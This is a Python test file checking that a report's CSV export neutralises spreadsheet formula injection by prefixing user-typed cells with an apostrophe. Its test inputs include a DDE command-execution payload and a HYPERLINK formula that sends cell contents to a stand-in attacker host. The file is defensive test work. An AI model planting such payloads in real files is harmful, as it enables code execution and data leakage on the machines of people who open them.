"""A report's CSV opens in a spreadsheet as text: no typed cell runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from app.library.spreadsheet_cells import spreadsheet_cell, spreadsheet_csv
from app.reports.export import csv_text
from app.reports.figures import (
    Breakdown,
    BreakdownRow,
    CampusValue,
    Figure,
    Report,
    ReportKind,
    Unit,
)

TYPED = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Smith")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def money_report() -> Report:
    balance = Figure(
        key="money.ifm_balance",
        label="IFM balance",
        unit=Unit.USD,
        current=Decimal("-12.50"),
        previous=Decimal("7.00"),
        by_month=(("2024-03", Decimal("-12.50")),),
        by_campus=(CampusValue("=1+1", Decimal("-3.25"), None),),
    )
    reasons = Breakdown(
        key="money.reasons",
        label="Charges by reason",
        unit=Unit.CHARGES,
        column="Reason",
        rows=tuple(BreakdownRow(name, 1, 0) for name in TYPED),
    )
    return Report(
        kind=ReportKind.MONEY,
        title="Money",
        start=date(2024, 3, 1),
        end=date(2024, 4, 30),
        previous_start=date(2024, 1, 1),
        previous_end=date(2024, 2, 29),
        campus=None,
        generated_at=datetime(2024, 5, 1, tzinfo=UTC),
        figures=(balance,),
        breakdowns=(reasons,),
    )


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_typed_names_open_as_text_and_amounts_as_numbers() -> None:
    rows = read_back(csv_text(money_report()))
    names = [r[5] for r in rows if r[4] == "Reason"]
    assert names == ["'" + cell for cell in TYPED]
    total = next(r for r in rows if r[4] == "total")
    assert (total[6], total[7]) == ("-12.50", "7.00")  # our own figures stay numbers
    campus = next(r for r in rows if r[4] == "campus")
    assert (campus[5], campus[6]) == ("'=1+1", "-3.25")
    for row in rows:
        for cell in row[:6]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1e5", "'-1e5"),
        ("-A1", "'-A1"),
        ("-12.50", "-12.50"),
        ("0.00", "0.00"),
        ("@x", "'@x"),
        ("", ""),
        (None, ""),
        (42, "42"),
        (" =1", " =1"),
        ("Lost in transit", "Lost in transit"),
    ],
)
def test_the_rule_cell_by_cell(cell: object, shown: str) -> None:
    assert spreadsheet_cell(cell) == shown


def test_commas_quotes_and_line_breaks_survive_the_round_trip() -> None:
    rows = [("name", "note"), ('Smith, "Jo"', "two\r\nlines"), ("=1", "-5")]
    assert read_back(spreadsheet_csv(rows)) == [
        ["name", "note"],
        ['Smith, "Jo"', "two\r\nlines"],
        ["'=1", "-5"],
    ]
